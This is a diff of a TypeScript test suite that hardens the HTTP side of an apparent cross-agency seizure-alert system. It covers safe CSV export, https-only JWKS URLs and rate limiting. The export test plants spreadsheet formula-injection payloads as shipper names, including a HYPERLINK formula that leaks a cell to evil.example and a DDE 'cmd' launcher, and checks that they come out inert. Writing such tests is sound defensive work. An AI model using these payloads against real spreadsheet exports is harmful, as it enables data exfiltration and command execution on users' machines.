@@ -53,14 +53,18 @@ describe('HTTP hardening', () => {
     const hyperlink = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';
     beforeAll(async () => {
       // Another agency (KZ) names the shipper; an AZ officer and the coordinator export it.
-      for (const [i, name] of [hyperlink, '+cmd|\' /C calc\'!A0', '@SUM(1+1)', 'ТОО «Каспий Транс»'].entries()) {
+      for (const [i, name] of [hyperlink, "+cmd|' /C calc'!A0", '@SUM(1+1)', 'ТОО «Каспий Транс»'].entries()) {
         const r = await call('POST', `${p.nodes.KZ.url}/api/alerts`, {
-          token: kz, headers: { 'idempotency-key': `csv-${i}` },
+          token: kz,
+          headers: { 'idempotency-key': `csv-${i}` },
           body: minimalSeizure({ quantity: { value: 12.5, unit: 'kg' }, parties: [{ role: 'shipper', name }] }),
         });
         expect(r.status).toBe(201);
       }
-      await eventually(async () => (await call('GET', `${p.hub.url}/api/trends/seizures?groupBy=shipper`, { token: az })).body.rows?.length === 4, 'the four shippers on the hub');
+      await eventually(
+        async () => (await call('GET', `${p.hub.url}/api/trends/seizures?groupBy=shipper`, { token: az })).body.rows?.length === 4,
+        'the four shippers on the hub',
+      );
     });
 
     it('a formula entered by another agency comes out inert; UTF-8 BOM; an attachment with a sensible name', async () => {
@@ -100,12 +104,25 @@ describe('HTTP hardening', () => {
 
   it('JWKS URLs must be https: a service refuses to start with an http one unless local development allows it', () => {
     const env = (extra: Record<string, string>) => ({
-      DATABASE_URL: 'postgres://x@127.0.0.1/x', AGENCY: 'KZ', NODE_SIGNING_KEY_FILE: 'k', NODE_SIGNING_KEY_ID: 'k', ...extra,
+      DATABASE_URL: 'postgres://x@127.0.0.1/x',
+      AGENCY: 'KZ',
+      NODE_SIGNING_KEY_FILE: 'k',
+      NODE_SIGNING_KEY_ID: 'k',
+      ...extra,
     });
     expect(() => loadConfig(NodeEnv, env({ AUTH_ISSUERS: 'KZ:https://idp.kz=http://idp.kz/certs' }))).toThrow(/AUTH_ISSUERS.*https/);
-    expect(() => loadConfig(HubEnv, { ...env({ AUTH_ISSUERS: 'KZ:https://idp.kz=http://idp.kz/certs' }), NODE_PUBLIC_KEYS: 'x', HUB_SIGNING_KEY_FILE: 'k', HUB_SIGNING_KEY_ID: 'k' })).toThrow(/AUTH_ISSUERS/);
+    expect(() =>
+      loadConfig(HubEnv, {
+        ...env({ AUTH_ISSUERS: 'KZ:https://idp.kz=http://idp.kz/certs' }),
+        NODE_PUBLIC_KEYS: 'x',
+        HUB_SIGNING_KEY_FILE: 'k',
+        HUB_SIGNING_KEY_ID: 'k',
+      }),
+    ).toThrow(/AUTH_ISSUERS/);
     expect(() => loadConfig(NodeEnv, env({ AUTH_ISSUERS: 'KZ:https://idp.kz=https://idp.kz/certs' }))).not.toThrow();
-    expect(() => loadConfig(NodeEnv, env({ AUTH_ISSUERS: 'KZ:http://127.0.0.1:8080/realms/kz=http://127.0.0.1:8080/certs', AUTH_ALLOW_HTTP_JWKS: 'true' }))).not.toThrow();
+    expect(() =>
+      loadConfig(NodeEnv, env({ AUTH_ISSUERS: 'KZ:http://127.0.0.1:8080/realms/kz=http://127.0.0.1:8080/certs', AUTH_ALLOW_HTTP_JWKS: 'true' })),
+    ).not.toThrow();
     expect(() => loadConfig(NodeEnv, env({ AUTH_ISSUERS: 'KZ=/keys/issuer-KZ.pub.pem' }))).not.toThrow();
   });
 
@@ -127,7 +144,9 @@ describe('HTTP hardening', () => {
     it('writes over the limit answer 429 with Retry-After, per caller; reads are not counted', async () => {
       const other = await token('KZ', 'officer', 'KZ-KURYK', 'kz-other-officer');
       for (let i = 0; i < 3; i++) {
-        expect((await call('POST', `${node.url}/api/alerts`, { token: kz, headers: { 'idempotency-key': `w-${i}` }, body: minimalSeizure() })).status).toBe(201);
+        expect((await call('POST', `${node.url}/api/alerts`, { token: kz, headers: { 'idempotency-key': `w-${i}` }, body: minimalSeizure() })).status).toBe(
+          201,
+        );
       }
       const refused = await call('POST', `${node.url}/api/alerts`, { token: kz, headers: { 'idempotency-key': 'w-3' }, body: minimalSeizure() });
       expect(refused.status).toBe(429);
@@ -137,7 +156,10 @@ describe('HTTP hardening', () => {
       // the refused write was not stored
       expect((await call('GET', `${node.url}/api/alerts`, { token: kz })).body.items).toHaveLength(3);
       for (let i = 0; i < 5; i++) expect((await call('GET', `${node.url}/api/alerts`, { token: kz })).status).toBe(200);
-      expect((await call('POST', `${node.url}/api/alerts`, { token: other, headers: { 'idempotency-key': 'o-1' }, body: minimalSeizure({ unit: 'KZ-KURYK' }) })).status).toBe(201);
+      expect(
+        (await call('POST', `${node.url}/api/alerts`, { token: other, headers: { 'idempotency-key': 'o-1' }, body: minimalSeizure({ unit: 'KZ-KURYK' }) }))
+          .status,
+      ).toBe(201);
     });
 
     it('exports over the limit answer 429 with Retry-After; the same figures as JSON are not exports', async () => {
